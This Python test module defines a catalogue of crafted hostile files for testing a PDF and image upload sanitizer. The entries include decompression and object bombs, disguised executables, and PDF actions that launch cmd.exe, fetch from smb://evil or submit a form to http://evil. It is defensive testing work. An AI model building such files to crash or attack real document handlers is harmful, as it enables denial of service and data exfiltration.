"""自己造的坏文件与怪文件。

每一种：怎么造（build），该怎么了结（refused：话里应有的词；否则是收下，copy 里不该再有 absent）。
"""

import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.documents.crafting import (
    A4,
    GPS,
    SCRIPT,
    billion_drawings,
    bomb,
    deep_tree,
    embedded,
    external_stream,
    filled_form,
    image_page,
    jpeg_claiming,
    locked,
    many_pages,
    many_scans,
    new_pdf,
    object_bomb,
    object_stream_bomb,
    one_page,
    picture,
    png_chunk,
    png_of,
    raw_pdf,
    saved,
    self_drawing,
    stream,
    tree_loop,
    with_annotation,
    with_root,
)


@dataclass(frozen=True)
class Hostile:
    """一种坏文件。refused 为空表示该收下并净化。"""

    build: Callable[[], bytes]
    refused: str = ""
    name: str = "材料.pdf"
    absent: tuple[bytes, ...] = ()
    notice: str = ""


KINDS: dict[str, Hostile] = {
    # —— 不是 PDF ——
    "empty": Hostile(lambda: b"", "空文件"),
    "program": Hostile(lambda: b"MZ" + bytes(500), "程序文件"),
    "double_name": Hostile(lambda: saved(new_pdf()), "程序或网页", name="材料.pdf.exe"),
    "inner_program_name": Hostile(lambda: saved(new_pdf()), "程序或网页", name="合同.exe.pdf"),
    "docx": Hostile(lambda: b"PK\x03\x04" + bytes(200), "另存为 PDF", name="说明.docx"),
    "docx_named_pdf": Hostile(lambda: b"PK\x03\x04" + bytes(200), "另存为 PDF"),
    "old_word": Hostile(lambda: b"\xd0\xcf\x11\xe0" + bytes(200), "另存为 PDF"),
    "web_page": Hostile(lambda: b"<!doctype html><script>alert(1)</script>", "网页"),
    "garbage": Hostile(lambda: bytes(range(7, 250)) * 9, "认不出"),
    "gif": Hostile(lambda: picture("GIF", mode="L"), "图片格式", name="a.png"),
    "script_before_pdf": Hostile(lambda: b"alert(1)//" + saved(new_pdf()), "夹着别的东西"),
    # —— 残缺 ——
    "header_only": Hostile(lambda: b"%PDF-1.7\n", "末尾缺失"),
    "truncated": Hostile(lambda: saved(new_pdf(20))[:-300], "末尾缺失"),
    "truncated_linearized": Hostile(lambda: saved(new_pdf(40), linearize=True)[:-900], "末尾缺失"),
    "no_objects": Hostile(lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "打不开"),
    "no_pages": Hostile(lambda: saved(Pdf.new()), "没有页面"),
    "xref_loop": Hostile(
        lambda: (
            b"%PDF-1.5\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1 /Prev 9>>\nstartxref\n9\n%%EOF\n"
        ),
        "；请",
    ),
    "damaged_xref": Hostile(
        lambda: saved(new_pdf()).replace(b"startxref\n", b"startxref\n9"), notice="小毛病"
    ),
    # —— 上锁 ——
    "user_password": Hostile(lambda: locked("secret", "owner"), "打开密码"),
    "owner_password": Hostile(lambda: locked("", "owner"), notice="使用限制", absent=(b"/Encrypt",)),
    # —— 会动的东西 ——
    "javascript_on_open": Hostile(
        lambda: with_root(OpenAction=SCRIPT), notice="脚本", absent=(b"EVIL", b"/JS")
    ),
    "javascript_names": Hostile(
        lambda: with_root(
            Names=Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), SCRIPT])))
        ),
        notice="脚本",
        absent=(b"EVIL", b"/Names"),
    ),
    "additional_actions": Hostile(
        lambda: with_root(AA=Dictionary(WC=SCRIPT)), notice="打开时", absent=(b"EVIL",)
    ),
    "launch": Hostile(
        lambda: with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))),
        notice="打开程序",
        absent=(b"cmd.exe", b"/Launch", b"/Annots"),
    ),
    "go_to_remote": Hostile(
        lambda: with_annotation(
            Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=pikepdf.String("smb://evil/x"))
        ),
        notice="其他文件",
        absent=(b"smb:",),
    ),
    "submit_form": Hostile(
        lambda: with_root(OpenAction=Dictionary(S=Name.SubmitForm, F=pikepdf.String("http://evil"))),
        notice="提交",
        absent=(b"evil",),
    ),
    "rich_media": Hostile(
        lambda: with_annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary(EVIL=True)),
        notice="多媒体",
        absent=(b"EVIL", b"RichMedia"),
    ),
    "embedded_file": Hostile(embedded, notice="附件", absent=(b"EVIL-PAYLOAD", b"EmbeddedFile")),
    "filled_form": Hostile(filled_form, notice="表单", absent=(b"/AcroForm", b"EVIL", b"/Widget")),
    "unset_form": Hostile(
        lambda: with_root(AcroForm=Dictionary(NeedAppearances=True, Fields=Array([Dictionary(T="x")]))),
        "没有定型",
    ),
    "dynamic_xfa": Hostile(lambda: with_root(NeedsRendering=True), "XFA"),
    "portfolio": Hostile(lambda: with_root(Collection=Dictionary()), "文件包"),
    "external_stream": Hostile(external_stream, absent=(b"passwd",)),
    "pdf_and_zip": Hostile(
        lambda: saved(new_pdf()) + b"PK\x03\x04EVIL-ZIP" + bytes(99), absent=(b"EVIL-ZIP",)
    ),
    # —— 撑破、绕晕 ——
    "tree_loop": Hostile(tree_loop, "；请"),
    "deep_tree": Hostile(deep_tree, "过深"),
    "deep_array": Hostile(
        lambda: raw_pdf(
            b"<</Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000 + b">>", b"<<>>"
        ),
        "；请",
    ),
    "too_many_pages": Hostile(lambda: saved(new_pdf(301)), "超过 300 页"),
    "sixty_thousand_pages": Hostile(lambda: many_pages(60_001), "页"),
    "repeated_page": Hostile(lambda: many_pages(200), notice="小毛病"),
    "object_bomb": Hostile(object_bomb, "个对象"),
    "object_stream_bomb": Hostile(object_stream_bomb, "；请"),
    "content_bomb": Hostile(
        lambda: one_page(A4 + b" /Contents 4 0 R", stream(b"/Filter /FlateDecode", bomb(150_000_000))),
        "解开后超过",
    ),
    "layered_bomb": Hostile(
        lambda: one_page(
            A4 + b" /Contents 4 0 R",
            stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(bomb(150_000_000), 9)),
        ),
        "解开后超过",
    ),
    "many_filters": Hostile(
        lambda: one_page(
            A4 + b" /Contents 4 0 R", stream(b"/Filter [%b]" % (b"/ASCIIHexDecode " * 40), b">")
        ),
        "层层压缩",
    ),
    "run_length_filters": Hostile(
        lambda: one_page(A4 + b" /Contents 4 0 R", stream(b"/Filter /RunLengthDecode", b"\x81 " * 700_000)),
        "解开后超过",
    ),
    "image_bomb": Hostile(
        lambda: image_page(60_000, 60_000, b"/BitsPerComponent 8 /Filter /FlateDecode", bomb(5_000_000)),
        "过大",
    ),
    "hidden_jpeg_bomb": Hostile(
        lambda: image_page(10, 10, b"/BitsPerComponent 8 /Filter /DCTDecode", jpeg_claiming(65_500, 65_500)),
        "过大",
    ),
    "zero_page": Hostile(lambda: one_page(b"/MediaBox [0 0 595 0]"), "印不出来"),
    "huge_page": Hostile(lambda: one_page(b"/MediaBox [0 0 10000000 10000000]"), "印不出来"),
    "huge_unit": Hostile(lambda: one_page(A4 + b" /UserUnit 75000"), "印不出来"),
    "wordy_page_box": Hostile(lambda: one_page(b"/MediaBox [/a /b /c /d]"), notice="小毛病"),
    "self_drawing": Hostile(self_drawing, "自己套自己"),
    "billion_drawings": Hostile(billion_drawings, "层层重复"),
    # —— 图片 ——
    "jpeg_truncated": Hostile(lambda: picture("JPEG", (400, 400))[:-400], "末尾缺失", name="a.jpg"),
    "jpeg_bomb": Hostile(lambda: jpeg_claiming(65_500, 65_500), "一亿像素", name="a.jpg"),
    "jpeg_tiny": Hostile(lambda: picture("JPEG", (1, 1)), "像素", name="a.jpg"),
    "jpeg_scans": Hostile(many_scans, "遍扫描", name="a.jpg"),
    "jpeg_and_html": Hostile(
        lambda: picture("JPEG") + b"<script>EVIL</script>", name="a.jpg", absent=(b"EVIL",), notice="附带"
    ),
    "jpeg_place": Hostile(
        lambda: picture("JPEG")[:2] + GPS + picture("JPEG")[2:],
        name="a.jpg",
        absent=(b"GPS-SECRET",),
        notice="附带",
    ),
    "png_truncated": Hostile(lambda: picture("PNG")[:-20], "末尾缺失", name="a.png"),
    "png_bad_sum": Hostile(lambda: picture("PNG").replace(b"IDAT", b"IDAU"), "校验和", name="a.png"),
    "png_bomb": Hostile(lambda: png_of(60_000, 60_000, bomb(3_000_000)), "一亿像素", name="a.png"),
    "png_hidden_bomb": Hostile(lambda: png_of(60, 60, bomb(150_000_000)), "比尺寸所需的多", name="a.png"),
    "png_text_bomb": Hostile(
        lambda: png_of(
            60, 60, zlib.compress(bytes(61 * 60)), png_chunk(b"zTXt", b"k\0\0" + bomb(20_000_000))
        ),
        name="a.png",
        absent=(b"zTXt",),
        notice="附带",
    ),
    "png_short": Hostile(lambda: png_of(60, 60, zlib.compress(bytes(61))), "不够", name="a.png"),
    "png_translucent": Hostile(lambda: picture("PNG", mode="RGBA"), name="a.png"),
}
